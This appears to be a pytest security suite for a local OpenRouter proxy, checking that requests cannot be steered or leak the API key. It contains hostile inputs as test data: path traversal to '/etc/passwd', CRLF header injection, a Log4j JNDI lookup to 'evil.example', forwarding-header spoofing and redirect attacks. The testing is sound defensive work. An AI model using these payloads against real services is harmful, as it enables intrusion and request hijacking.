"""What apps send steers no request to OpenRouter, and what an upstream sends steers neither us nor an app."""

import json
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from attacks.canary import KEY, ask, body_of, questions
from attacks.hostile import Hostile, Stranger
from tray_proxy.secret_str import SecretStr

NAMES = (
    "../../../etc/passwd",
    "..%2f..%2fkey",
    "%2e%2e/credits",
    "a/b/../../../auth/keys",
    "openai/gpt-4o-mini\r\nX-Canary: 1",
    "openai/gpt-4o-mini\u0000",
    "http://evil.example/openai/gpt-4o-mini",
    "//evil.example/x",
    "openai/gpt-4o-mini?key=1#x",
    "openai\\gpt-4o-mini",
    "${jndi:ldap://evil.example}",
    "x" * 20_000,
    " ",
    "\u202egpt",
)
# Every path and header that ever goes to OpenRouter, besides what names the request's length and host.
PATHS = {"/api/v1/chat/completions", "/api/v1/embeddings", "/api/v1/models", "/api/v1/embeddings/models"}
HEADERS = {
    *("accept", "accept-encoding", "authorization", "connection", "content-length", "content-type", "host"),
    *("http-referer", "user-agent", "x-openrouter-title"),
}


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_no_name_of_a_model_reaches_a_path_or_a_header(proxy: Any, upstream: Any, name: str) -> None:
    """It is looked for in the list of models, and where it is not there nobody is asked."""
    port = proxy.program.settings.port
    statuses = {path: ask(port, "POST", path, body, headers)[0] for path, body, headers in questions(model=name)}
    # It tells of a failure in a stream, as Ollama does.
    ask(port, "POST", "/api/pull", {"model": name})
    for method, path in (("POST", "/api/show"), ("DELETE", "/api/delete")):
        statuses[path] = ask(port, method, path, {"model": name})[0]
    statuses["/v1/models"] = ask(port, "GET", f"/v1/models/{quote(name[:2000])}")[0]

    bought = {path for path, body, _ in questions() if "embed" in path and isinstance(body, dict)}
    assert [path for path, status in statuses.items() if path not in bought and not 400 <= status < 500] == []
    assert {one.path for one in upstream.received} <= PATHS
    assert not any("canary" in header.lower() for one in upstream.received for header in one.headers)


def test_no_field_or_header_of_an_app_steers_a_request(
    proxy: Any, upstream: Any, raw_upstream: Callable[..., str]
) -> None:
    """As in other proxies: another base address, more headers, a key, a route of the app's own choice."""
    stranger = Stranger()
    elsewhere = raw_upstream(stranger.talk)
    fields = {
        **dict.fromkeys(("api_base", "base_url", "api_url", "endpoint", "url", "proxy", "callback_url"), elsewhere),
        **{
            key: {"X-Canary": "1", "Authorization": "canary"} for key in ("headers", "extra_headers", "default_headers")
        },
        **{key: {"api_base": elsewhere} for key in ("extra_body", "extra_query", "litellm_params")},
        "api_key": "canary",
        "transforms": ["canary"],
        "models": ["canary"],
        "route": "canary",
        "plugins": [],
    }
    host = elsewhere.removeprefix("http://").partition("/")[0]
    headers = {
        **dict.fromkeys(("X-Forwarded-Host", "X-Original-Host", "X-Host", "Forwarded"), host),
        **dict.fromkeys(("X-Original-URL", "X-Rewrite-URL", "X-Upstream", "Destination", "Referer"), elsewhere),
        "X-Forwarded-For": "203.0.113.1",
        "Cookie": "canary=1",
        "X-HTTP-Method-Override": "DELETE",
        "X-Canary": "1",
    }
    port = proxy.program.settings.port
    for path, body, own in questions(prompt="hi"):
        ask(port, "POST", path, fields | body if isinstance(body, dict) else body, headers | own)
    with socket.create_connection(("127.0.0.1", port)) as absolute:
        content = json.dumps({"model": "openai/gpt-4o-mini", "messages": []})
        head = f"POST {elsewhere}/api/chat HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(content)}\r\n"
        absolute.sendall(f"{head}Connection: close\r\n\r\n{content}".encode())
        answered = absolute.makefile("rb").read()

    sent = [one for one in upstream.received if one.method == "POST"]
    assert len(sent) >= 15
    assert stranger.heard == []
    # A target that names another host than Host does is let in no further than such a Host.
    assert answered.startswith(b"HTTP/1.1 403 ")
    assert {one.path for one in sent} <= PATHS
    assert {name.lower() for one in sent for name in one.headers} <= HEADERS
    for canary in ("canary", elsewhere, "203.0.113.1"):
        assert canary not in json.dumps([[one.headers, one.query, one.body] for one in sent])


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_is_told_and_never_followed(
    proxies: Any, raw_upstream: Callable[..., str], tmp_path: Path, status: int
) -> None:
    """The prompt would go with it, and the key perhaps."""
    hostile = Hostile()
    hostile.elsewhere = raw_upstream(hostile.stranger.talk)
    running = proxies.start(
        tmp_path / "home",
        openrouter_base_url=raw_upstream(hostile.talk),
        openrouter_api_key=SecretStr(KEY),
    )
    hostile.answer = f"redirect {status}"

    told = {path: ask(running.program.settings.port, "POST", path, body) for path, body, _ in questions()}

    del told["/v1/audio/transcriptions"]
    assert {status for status, _ in told.values()} == {502}
    sentence = f"This network wants you to sign in first, at 127.0.0.1 (HTTP status {status})."
    assert [path for path, (_, answered) in told.items() if sentence.encode() not in answered] == []
    assert hostile.stranger.heard == []


def test_no_header_of_an_upstream_is_passed_on(proxies: Any, raw_upstream: Callable[..., str], tmp_path: Path) -> None:
    """A cookie would be set for every program on this computer's loopback address."""
    hostile = Hostile()
    running = proxies.start(
        tmp_path / "home",
        openrouter_base_url=raw_upstream(hostile.talk),
        openrouter_api_key=SecretStr(KEY),
    )
    hostile.answer = "headers"
    for path, body, _ in questions():
        if isinstance(body, dict) and "embed" not in path:
            status, answered = ask(running.program.settings.port, "POST", path, body)
            head = answered.partition(b"\n\n")[0].decode().splitlines()[1:]

            names = {line.partition(":")[0].lower() for line in head}
            ours = {
                "content-type",
                "date",
                "server",
                "transfer-encoding",
                "content-length",
                "x-request-id",
                "connection",
            }
            assert (status, names - ours) == (200, set())
            assert not any(value in KEY for line in head if len(value := line.partition(": ")[2]) > 20)
    assert body_of(ask(running.program.settings.port, "GET", "/api/version")[1])["version"]
